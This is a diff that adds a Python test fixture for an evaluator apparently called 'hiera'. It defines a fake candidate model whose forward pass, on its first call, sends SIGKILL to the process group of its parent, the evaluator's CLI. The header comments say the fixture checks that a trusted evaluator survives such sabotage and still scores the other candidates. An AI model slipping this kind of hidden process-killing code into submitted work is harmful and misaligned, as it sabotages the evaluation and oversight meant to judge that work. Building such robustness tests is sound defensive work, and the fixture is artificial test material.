@@ -1,0 +1,35 @@
+# Attack (killing hiera's process group): on its first call, SIGKILLs the process group of its parent
+# (hiera's CLI and whatever runs in its group). A trusted evaluator: the CLI exits normally and every
+# other candidate of the batch gets its verdict. (The test runs this inside its own PID namespace.)
+import os
+import signal
+from pathlib import Path
+
+import torch
+from torch import nn
+
+
+def _attack():
+    ppid = os.getppid()
+    try:
+        cmd = Path(f"/proc/{ppid}/cmdline").read_bytes()
+        group = os.getpgid(ppid)
+    except OSError:
+        return
+    if group > 0 and group != os.getpgid(0) and b"pytest" not in cmd:  # test-data safety
+        try:
+            os.killpg(group, signal.SIGKILL)
+        except OSError:
+            pass
+
+
+class ModelNew(nn.Module):
+    def __init__(self, *args):
+        super().__init__()
+        self.done = False
+
+    def forward(self, x):
+        if not self.done:
+            self.done = True
+            _attack()
+        return torch.relu(x)
